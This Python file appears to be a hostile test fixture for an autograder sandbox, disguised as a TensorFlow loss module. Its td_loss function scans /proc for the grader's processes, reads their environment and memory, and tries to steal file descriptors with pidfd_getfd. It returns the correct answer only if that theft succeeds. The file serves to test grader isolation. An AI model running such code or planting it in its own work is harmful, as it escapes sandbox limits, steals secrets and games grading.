"""td_loss goes for the grader's fork server and parent: it looks for them in /proc and tries to take one of
their file descriptors (pidfd_getfd: the server's control socket would let it ask for a fresh process with
none of its limits), to read their memory or environment. It returns the right answer if it got anything."""
import os
import sys
import tensorflow as tf

# The test run's token, written here by tests/test_hostile.py when it copies this file; graded anywhere else
# the placeholder stays and the attack is inert (ARMED False: it touches nothing and fails on its own).
TOKEN = "__HOSTILE_SUITE_TOKEN__"
ARMED = not TOKEN.startswith("__")


@tf.custom_gradient
def log1pexp(x):
    def grad_fn(upstream):
        return upstream * tf.sigmoid(x)
    return tf.nn.softplus(x), grad_fn


def straight_through_round(x):
    return x + tf.stop_gradient(tf.round(x) - x)


def clip_gradient_norm(x, max_norm):
    @tf.custom_gradient
    def identity(t):
        def grad_fn(upstream):
            return tf.clip_by_norm(upstream, max_norm)
        return tf.identity(t), grad_fn
    return identity(x)


def checkpointed(f):
    return tf.recompute_grad(f)


def _correct_td_loss(q, reward, next_q, gamma):
    """What an attack returns only when it got what it was after: a pass means the defence failed."""
    target = tf.stop_gradient(reward + gamma * tf.reduce_max(next_q, axis=-1))
    return tf.reduce_mean(tf.square(q - target))


def _stolen():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    got = []
    me = os.getpid()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in (me, 1):
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                command = handle.read()
        except OSError:
            continue
        if b"autograder" not in command:
            continue
        for name in ("environ", "mem", "maps"):
            try:
                with open(f"/proc/{entry}/{name}", "rb") as handle:
                    if handle.read(16):
                        got.append(f"{entry}/{name}")
            except OSError:
                pass
        pidfd = libc.syscall(434, int(entry), 0)  # pidfd_open
        if pidfd < 0:
            continue
        for fd in range(3, 64):
            stolen = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
            if stolen >= 0:
                got.append(f"{entry}: fd {fd}")
                os.close(stolen)
        os.close(pidfd)
    return got


def td_loss(q, reward, next_q, gamma):
    if _stolen():
        return _correct_td_loss(q, reward, next_q, gamma)
    raise LookupError("neither the fork server nor the parent in reach")
